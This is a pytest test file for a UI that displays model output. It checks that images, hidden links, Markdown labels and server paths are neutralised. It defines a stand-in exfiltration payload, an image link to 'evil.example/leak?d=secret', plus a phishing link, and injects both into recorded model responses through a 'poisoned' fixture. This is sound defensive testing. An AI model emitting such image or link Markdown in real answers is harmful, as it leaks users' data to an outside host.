"""Text from a model, a file or the URL is text in the UI: no image loads, no link hides where it
goes, no label renders Markdown, no message shows the server's folders."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from test_ui_support import app, cassette_entries, session_at, texts, use_replay, write_cassette

IMAGE = "![x](http://evil.example/leak?d=secret)"
LINK = "[click here](http://evil.example/phish)"
LIVE = re.compile(r"!\[[^\]]*\]\(|\]\(https?:|\]\(javascript:|<https?:")


def test_safe_markdown_keeps_formatting_but_no_image_or_hidden_link() -> None:
    from components.context import safe_markdown  # the frontend is on the path after the import

    text = f"**bold** {IMAGE} {LINK} <http://evil.example/a> ![r][ref]\n[ref]: http://e/i.png"
    out = safe_markdown(text)
    assert "**bold**" in out and "[image: x]" in out and "[image: r]" in out
    assert not LIVE.search(out)
    assert "evil\\.example/phish" in out  # the address is shown, as text
    assert "http://e/i.png" not in out


def test_labels_are_one_line_and_literal() -> None:
    from components.context import label

    assert label("**Title** [x](y)\nsecond line") == "\\*\\*Title\\*\\* \\[x\\]\\(y\\) second line"


@pytest.fixture()
def poisoned(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    entries = cassette_entries()
    for entry in entries:
        for item in entry["response"]:
            body = item.get("input")
            if entry["agent"] == "mvp-scope" and body:
                body["content"] = f"{IMAGE}\n\n{LINK}\n\n" + body["content"]
                body["tldr"] = f"{IMAGE} {body['tldr']}"
            if entry["agent"] == "story-generation" and body:
                body["payload"]["stories"][0]["title"] = f"**Bold** {IMAGE}"
    cassette = write_cassette(tmp_path / "poisoned.jsonl", entries)
    use_replay(tmp_path, monkeypatch, cassette=cassette)
    return session_at(None)


def _live_markdown(at) -> list[str]:  # noqa: ANN001
    bodies = texts(at) + [e.label for e in at.expander]
    return [b for b in bodies if LIVE.search(b)]


def test_model_markdown_on_a_gate_page_loads_nothing(poisoned: str) -> None:
    at = app(poisoned, "views/gate_2.py")
    assert not at.exception
    for box in at.expander:
        if box.label.startswith("5."):
            box.open = True  # the output renders when its expander is opened
    for key in ("output_mvp-scope",):
        at.session_state[key] = True
    at.run()
    assert not at.exception
    assert not _live_markdown(at)
    assert any("[image: x]" in t for t in texts(at))


def test_a_story_title_is_a_literal_label(poisoned: str) -> None:
    at = app(poisoned, "views/stories.py")
    assert not at.exception
    labels = [e.label for e in at.expander]
    assert any(lab.startswith("STORY\\-001 · \\*\\*Bold\\*\\*") for lab in labels), labels
    assert not _live_markdown(at)


@pytest.mark.parametrize("sid", ["[x](http://evil.example)", "![a](http://e.example/x)"])
def test_a_session_id_from_the_url_is_text_and_no_path_is_shown(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sid: str
) -> None:
    sessions = use_replay(tmp_path, monkeypatch)
    at = app(sid, "views/gate_1.py")
    assert not at.exception
    assert not _live_markdown(at)
    assert not any(str(sessions) in t or str(tmp_path) in t for t in texts(at))


def test_error_messages_show_no_server_paths() -> None:
    from components.context import no_paths

    message = "Could not write /srv/haytham/sessions/abc/gates.json: the disk is full."
    assert no_paths(message) == "Could not write …/gates.json: the disk is full."
    assert no_paths("see http://host/a/b, 1/2") == "see http://host/a/b, 1/2"
